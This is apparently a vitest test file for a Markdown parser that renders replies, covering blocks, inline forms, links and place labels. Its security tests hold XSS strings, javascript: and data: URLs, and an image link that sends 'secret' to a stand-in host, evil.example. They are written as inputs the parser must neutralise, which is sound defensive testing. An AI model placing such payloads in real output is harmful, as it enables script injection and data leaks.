import { describe, expect, it } from 'vitest';
import { type MarkdownBlock, parseMarkdown } from './markdown.ts';
import type { Inline } from './markdown-inline.ts';

/** A reply in short: the forms as letters around their words. */
function outline(blocks: readonly MarkdownBlock[]): string {
  return blocks
    .map(block => {
      switch (block.kind) {
        case 'paragraph':
          return `p(${inlineOutline(block.inlines)})`;
        case 'heading':
          return `h${block.level}(${inlineOutline(block.inlines)})`;
        case 'list':
          return `${block.isNumbered ? `ol${block.start}` : 'ul'}(${block.items.map(outline).join(' | ')})`;
        case 'quote':
          return `q(${outline(block.blocks)})`;
        case 'code':
          return `code(${block.text})`;
        case 'rule':
          return 'hr';
      }
      return '';
    })
    .join(' ');
}

function inlineOutline(inlines: readonly Inline[]): string {
  return inlines
    .map(inline => {
      switch (inline.kind) {
        case 'text':
          return inline.text;
        case 'code':
          return `\`${inline.text}\``;
        case 'break':
          return '/';
        case 'places':
          return `@${inline.labels.join('|')}@`;
        case 'link':
          return `a[${inline.address}](${inlineOutline(inline.inlines)})`;
        case 'strong':
          return `b(${inlineOutline(inline.inlines)})`;
        case 'emphasis':
          return `i(${inlineOutline(inline.inlines)})`;
      }
      return '';
    })
    .join('');
}

const read = (source: string) => outline(parseMarkdown(source));

describe('the Markdown of a reply', () => {
  it.each([
    ['One.\n\nTwo.', 'p(One.) p(Two.)'],
    ['One\nline', 'p(One/line)'],
    ['## The *end*', 'h2(The i(end))'],
    ['**Heading**\n\n> The tide.\n> — Chapter 1', 'p(b(Heading)) q(p(The tide./— Chapter 1))'],
    ['- one\n- two\n  still two', 'ul(p(one) | p(two/still two))'],
    ['1. one\n2. two', 'ol1(p(one) | p(two))'],
    ['3) three', 'ol3(p(three))'],
    ['- one\n    - inner\n- two', 'ul(p(one) ul(p(inner)) | p(two))'],
    ['- one\n\n- two\n\nAfter.', 'ul(p(one) | p(two)) p(After.)'],
    ['Prose.\n\n---\n\nNotes.', 'p(Prose.) hr p(Notes.)'],
    ['* * *', 'hr'],
    ['```\n<b>**x**\n```\nAfter', 'code(<b>**x**) p(After)'],
    ['```\nstill coming', 'code(still coming)'],
  ])('reads the blocks of %j', (source, blocks) => {
    expect(read(source)).toBe(blocks);
  });

  it.each([
    ['a **bold *and* more** b', 'p(a b(bold i(and) more) b)'],
    ['***both***', 'p(b(i(both)))'],
    ['_soft_ and snake_case_word', 'p(i(soft) and snake_case_word)'],
    ['2 * 3 * 4', 'p(2 * 3 * 4)'],
    ['an **unfinished', 'p(an **unfinished)'],
    ['\\*stars\\* stay', 'p(*stars* stay)'],
    ['`a **b**`', 'p(`a **b**`)'],
  ])('reads the forms in %j', (source, blocks) => {
    expect(read(source)).toBe(blocks);
  });

  it('makes links of https addresses alone, and shows the words of all others', () => {
    expect(read('[here](https://example.org/a) or https://example.org/b.')).toBe(
      'p(a[https://example.org/a](here) or a[https://example.org/b](https://example.org/b).)',
    );
    for (const address of ['http://example.org', 'javascript:alert(1)', 'data:text/html,x', '/api/logout']) {
      expect(read(`[here](${address})`)).toBe(`p([here](${address}))`);
    }
  });

  it('knows the labels of places, alone and several together, and nothing that only looks like them', () => {
    expect(read('As in [C3 P14], [C1 P2; C2 S1 P3] and [C3], [P2](https://example.org/).')).toBe(
      'p(As in @C3 P14@, @C1 P2|C2 S1 P3@ and [C3], a[https://example.org/](P2).)',
    );
  });

  it('fetches no image and takes no tag for markup', () => {
    expect(read('![the map](https://evil.example/?q=secret)')).toBe('p(the map)');
    expect(read('<img src=x onerror=alert(1)> <script>x</script>')).toBe(
      'p(<img src=x onerror=alert(1)> <script>x</script>)',
    );
  });

  it('reads hostile nesting without end', () => {
    expect(read('>'.repeat(5_000)).length).toBeGreaterThan(0);
    expect(read('*a '.repeat(6_000)).length).toBeGreaterThan(0);
    expect(read('['.repeat(10_000)).length).toBeGreaterThan(0);
  });
});
